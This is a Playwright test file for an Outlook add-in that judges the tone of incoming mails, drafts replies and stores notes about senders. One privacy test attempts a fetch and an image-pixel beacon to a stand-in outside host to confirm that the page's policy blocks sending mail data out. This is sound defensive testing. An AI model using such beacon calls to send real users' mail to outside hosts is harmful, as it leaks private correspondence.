import { mkdirSync } from 'node:fs';
import path from 'node:path';
import type { Browser, Frame } from 'playwright-core';
import { stringsFor } from '../../src/view/strings';
import { openBrowser } from '../support/browser';
import {
  openBrowserOutlook,
  type BrowserOutlook,
  type BrowserOutlookOptions,
} from '../support/outlook-host/browser-outlook';
import { appointment, message, SELLER, type HostItem } from '../support/outlook-host/mailbox';
import { OutlookHost } from '../support/outlook-host/outlook-host';
import { Dispatch } from '../support/outlook-host/protocol';

const words = stringsFor('en').pane;
const screenshots = path.join(__dirname, 'screenshots');

const SECRET = 'Zanzibar-4711';
const THREAT = message('threat', {
  subject: 'Re: quotation Q-118',
  html: `<html><head><style>p{margin:8px 0}</style></head><body><p>Dear Lin,</p><p>your price for ${SECRET} is far too high. Give us 10% discount or we cancel the order.</p><p>Regards<br>Dana</p></body></html>`,
  cc: [{ name: 'Pat Moss', address: 'pat@northwind.example' }],
});
const ORDINARY = message('ordinary', {
  subject: 'Samples arrived',
  from: { name: 'Marco Rossi', address: 'marco@fabrikam.example' },
  html: '<p>Hi Lin,</p><p>thank you, the samples arrived today and everything looks fine.</p>',
});
const CHINESE = message('chinese', {
  subject: '关于报价',
  from: { name: '王芳', address: 'wang@litware.example' },
  html: '<p>林小姐：</p><p>你们的价格太高了，如果不降价10%，我们就取消订单。</p>',
});
const ITEMS: readonly HostItem[] = [
  THREAT,
  ORDINARY,
  CHINESE,
  appointment('meeting'),
  message('own', { from: SELLER }),
];

let browser: Browser;
const opened: BrowserOutlook[] = [];

beforeAll(async () => {
  mkdirSync(screenshots, { recursive: true });
  browser = await openBrowser();
});
afterAll(() => browser.close());
/** Closing fails when anything outside Outlook, the pane and the library was asked for, or when a script failed. */
afterEach(async () => {
  for (const outlook of opened.splice(0)) await outlook.close();
});

interface Scene {
  readonly host: OutlookHost;
  readonly outlook: BrowserOutlook;
  readonly pane: Frame;
}

async function open(
  options: BrowserOutlookOptions & { readonly locale?: string; readonly items?: readonly HostItem[] } = {},
): Promise<Scene> {
  const { locale = 'en-US', items = ITEMS, ...rest } = options;
  const host = new OutlookHost({ items, locale });
  const outlook = await openBrowserOutlook(browser, host, rest);
  opened.push(outlook);
  return { host, outlook, pane: await outlook.openPane() };
}

const pick = ({ outlook }: Scene, subject: string): Promise<void> =>
  outlook.page.getByRole('button', { name: subject }).click();
const verdict = (pane: Frame) => pane.getByRole('region', { name: words.verdict.region });
const reply = (pane: Frame) => pane.getByRole('region', { name: words.reply.title });
const noteText = (pane: Frame) => pane.getByRole('textbox', { name: words.note.text });
const heading = (pane: Frame, name: string) => pane.getByRole('heading', { name, exact: true });

/** Waits for the draft and puts something into every blank of it. */
async function fillBlanks(pane: Frame): Promise<void> {
  await pane.getByRole('button', { name: words.reply.insert, exact: true, disabled: false }).waitFor();
  const blanks = reply(pane).locator('input[data-open="true"]');
  // Right for a day, a quantity and a share alike; each blank checks what it is given.
  for (let left = await blanks.count(); left > 0; left -= 1) await blanks.first().fill('Friday 5');
  expect(await blanks.count()).toBe(0);
}

test('mails are read in a thread of its own, under the policy of the page', async () => {
  const { outlook, pane } = await open();
  await pane.getByRole('region', { name: 'Verdict' }).waitFor();
  expect(outlook.page.workers().map((worker) => new URL(worker.url()).pathname)).toEqual([
    expect.stringMatching(/\/reader\.[0-9a-f]{8}\.js$/),
  ]);
  // What only the page itself would load to read.
  expect(outlook.requests.filter((address) => /\/engine\./.test(address))).toEqual([]);
  expect(outlook.violations).toEqual([]);
});

test('without workers the page reads by itself', async () => {
  const { outlook, pane } = await open({ cutOff: (address) => /\/reader\./.test(address) });
  await pane.getByRole('region', { name: 'Verdict' }).waitFor();
  expect(outlook.requests.filter((address) => /\/engine\./.test(address))).toHaveLength(1);
});

test('the pane follows the selected mail', async () => {
  const scene = await open();
  const { pane, outlook, host } = scene;
  await pane.getByText('far too high').first().waitFor();
  await heading(pane, words.note.title('Dana Smith')).waitFor();
  await outlook.page.screenshot({ path: path.join(screenshots, 'outlook-threat.png') });
  // The correction comes a moment after the verdict.
  await pane.getByText(words.correction.open).waitFor();
  const first = await verdict(pane).innerText();

  await pick(scene, 'Samples arrived');
  await heading(pane, words.note.title('Marco Rossi')).waitFor();
  expect(await verdict(pane).innerText()).not.toBe(first);
  expect(await pane.locator('body').innerText()).not.toContain('far too high');
  await outlook.page.screenshot({ path: path.join(screenshots, 'outlook-ordinary.png') });

  host.select(null);
  await heading(pane, words.states.none.title).waitFor();
  host.select('meeting');
  await heading(pane, words.states.unreadable.appointment.title).waitFor();
  host.select('own');
  await heading(pane, words.states.unreadable['own-mail'].title).waitFor();
  host.select('threat');
  await heading(pane, words.note.title('Dana Smith')).waitFor();
  await pane.getByText(words.correction.open).waitFor();
  expect(await verdict(pane).innerText()).toBe(first);
});

test('quick changes of the mail end with the last one', async () => {
  const scene = await open();
  await verdict(scene.pane).waitFor();
  const held = scene.host.faults.hold(Dispatch.bodyGet);
  scene.host.select('ordinary');
  await held.arrived;
  scene.host.select('threat');
  scene.host.select('chinese');
  held.release();
  await heading(scene.pane, words.note.title('王芳')).waitFor();
  const shown = await scene.pane.locator('body').innerText();
  expect(shown).not.toContain('far too high');
  expect(shown).not.toContain('samples');
});

test('the draft opens in the reply form with one click', async () => {
  const { pane, outlook, host } = await open();
  await fillBlanks(pane);
  await pane.getByRole('button', { name: words.reply.insert, exact: true }).click();
  await pane.getByText(words.reply.opened).waitFor();
  expect(host.replyForms).toMatchObject([
    { toAll: false, subject: 'RE: Re: quotation Q-118', to: [{ address: 'dana@northwind.example' }] },
  ]);
  const form = await outlook.page.locator('#reply-body').innerText();
  expect(form).toContain('Dana');
  expect(form).toContain('Friday');
  expect(form).not.toContain('____');
  await outlook.page.screenshot({ path: path.join(screenshots, 'outlook-reply.png') });

  await pane.getByRole('button', { name: words.reply.insertToAll }).click();
  await waitUntil(() => host.replyForms.length === 2);
  expect(host.replyForms[1]?.to.map(({ address }) => address)).toEqual([
    'dana@northwind.example',
    'pat@northwind.example',
  ]);
});

test('the draft can be copied although Outlook does not grant the clipboard', async () => {
  const { pane, outlook, host } = await open();
  await fillBlanks(pane);
  await pane.getByRole('button', { name: words.reply.copy, exact: true }).click();
  await pane.getByText(words.reply.copied).waitFor();
  await outlook.page.context().grantPermissions(['clipboard-read'], { origin: host.settings.origin });
  await outlook.page.bringToFront();
  await outlook.page.locator('h1').click();
  expect(await outlook.page.evaluate(() => navigator.clipboard.readText())).toContain('Dana');
});

test('a note survives a restart of the pane', async () => {
  const scene = await open();
  const { outlook, host, pane } = scene;
  await noteText(pane).fill('Says "cancel" every spring, 从不当真.');
  await pane.getByText(words.note.saved, { exact: true }).waitFor();
  await outlook.closePane();
  expect(Object.keys(host.roaming)).toContain('note:dana@northwind.example');

  const again = await outlook.openPane();
  await noteText(again).waitFor();
  expect(await noteText(again).inputValue()).toBe('Says "cancel" every spring, 从不当真.');
  await pick(scene, 'Samples arrived');
  await heading(again, words.note.title('Marco Rossi')).waitFor();
  expect(await noteText(again).inputValue()).toBe('');
});

test('nothing of the mail leaves the browser, and the page could not send it if it wanted', async () => {
  const { pane, outlook } = await open();
  await pane.getByText(SECRET).first().waitFor();
  await noteText(pane).fill(`about ${SECRET}`);
  await pane.getByText(words.note.saved, { exact: true }).waitFor();
  await fillBlanks(pane);
  await pane.getByRole('button', { name: words.reply.insert, exact: true }).click();
  await pane.getByText(words.reply.opened).waitFor();
  expect(outlook.requests.length).toBeGreaterThan(5);
  expect(outlook.requests.filter((address) => decodeURIComponent(address).includes(SECRET))).toEqual([]);

  const before = outlook.requests.length;
  const tries = await pane.evaluate(async () => {
    const outcome = (attempt: Promise<unknown>): Promise<string> =>
      attempt.then(
        () => 'sent',
        () => 'refused',
      );
    const image = new Image();
    const loaded = new Promise((resolve, reject) => {
      image.onload = resolve;
      image.onerror = reject;
    });
    image.src = 'https://elsewhere.example/pixel.png?mail';
    return Promise.all([outcome(fetch('https://elsewhere.example/?mail')), outcome(loaded)]);
  });
  expect(tries).toEqual(['refused', 'refused']);
  expect(outlook.requests.slice(before)).toEqual([]);
});

test('the host notices a request that is none of ours', async () => {
  const outlook = await openBrowserOutlook(browser, new OutlookHost({ items: ITEMS }));
  await outlook.page.evaluate(() => fetch('https://elsewhere.example/?mail').catch(() => undefined));
  await expect(outlook.close()).rejects.toThrow('asked for https://elsewhere.example/?mail');
});

test('the pane speaks the language of Outlook', async () => {
  const chinese = stringsFor('zh-CN').pane;
  const { pane, outlook, host } = await open({ locale: 'zh-CN' });
  await heading(pane, chinese.note.title('Dana Smith')).waitFor();
  host.select('chinese');
  await heading(pane, chinese.note.title('王芳')).waitFor();
  await pane.getByRole('region', { name: chinese.verdict.region }).waitFor();
  await outlook.page.screenshot({ path: path.join(screenshots, 'outlook-zh-cn.png') });
});

test('the pane works where the browser keeps nothing for it', async () => {
  const { pane } = await open({ blocksStorage: true });
  expect(
    await pane.evaluate(() => {
      try {
        return typeof localStorage;
      } catch (error) {
        return (error as Error).name;
      }
    }),
  ).toBe('SecurityError');
  await verdict(pane).waitFor();
  await noteText(pane).fill('kept in the account');
  await pane.getByText(words.note.saved, { exact: true }).waitFor();
});

test('without the library the pane says so instead of staying empty, and tries again', async () => {
  let isCutOff = true;
  const { pane } = await open({ cutOff: (address) => isCutOff && address.includes('appsforoffice') });
  await heading(pane, words.states.hostError.offline.title).waitFor();
  isCutOff = false;
  await pane.getByRole('button', { name: words.states.retry }).click();
  await verdict(pane).waitFor();
});

test('the whole way can be gone with the keyboard alone, under the rule of the library', async () => {
  const { pane, outlook, host } = await open();
  await fillBlanks(pane);
  await outlook.page.locator('#list button').last().focus();
  const { keyboard } = outlook.page;
  const reached: string[] = [];
  const tabTo = async (isThere: () => Promise<boolean>): Promise<void> => {
    for (let steps = 0; !(await isThere()); steps += 1) {
      if (steps > 100) throw new Error(`not reached:\n${reached.join('\n')}`);
      await keyboard.press('Tab');
      reached.push(await pane.evaluate(() => document.activeElement?.outerHTML.slice(0, 120) ?? ''));
    }
  };
  const insert = pane.getByRole('button', { name: words.reply.insert, exact: true });
  await tabTo(() => insert.evaluate((button) => document.hasFocus() && button === document.activeElement));
  await keyboard.press('Enter');
  await pane.getByText(words.reply.opened).waitFor();
  expect(host.replyForms).toHaveLength(1);

  const firstMail = outlook.page.locator('#list button').first();
  await tabTo(() => firstMail.evaluate((button) => document.hasFocus() && button === document.activeElement));
});

async function waitUntil(isSo: () => boolean): Promise<void> {
  while (!isSo()) await new Promise((resolve) => setTimeout(resolve, 20));
}

test('other pages of the add-in hear what the pane has saved', async () => {
  const { pane, outlook } = await open();
  const icon = new URL('assets/icon-16.png', pane.url()).href;
  const [element] = await Promise.all([
    outlook.page.waitForSelector('#other'),
    outlook.page.evaluate((src) => {
      document.body.append(Object.assign(document.createElement('iframe'), { id: 'other', src }));
    }, icon),
  ]);
  const other = await element.contentFrame();
  const heard = other?.evaluate(
    (account) =>
      new Promise((resolve) => {
        // The threat just read may be written into the note meanwhile; that is news as well.
        new BroadcastChannel(`undertone-settings:${account}`).onmessage = ({ data }) => {
          const changes = data as [string, unknown][];
          if (changes.some(([key]) => key === 'pane:seller-name')) resolve(changes);
        };
      }),
    SELLER.address,
  );
  await pane.getByRole('button', { name: words.settings.open }).click();
  await pane.getByRole('textbox', { name: words.settings.sellerName }).fill('Lin');
  expect(await heard).toEqual([['pane:seller-name', 'Lin']]);
});
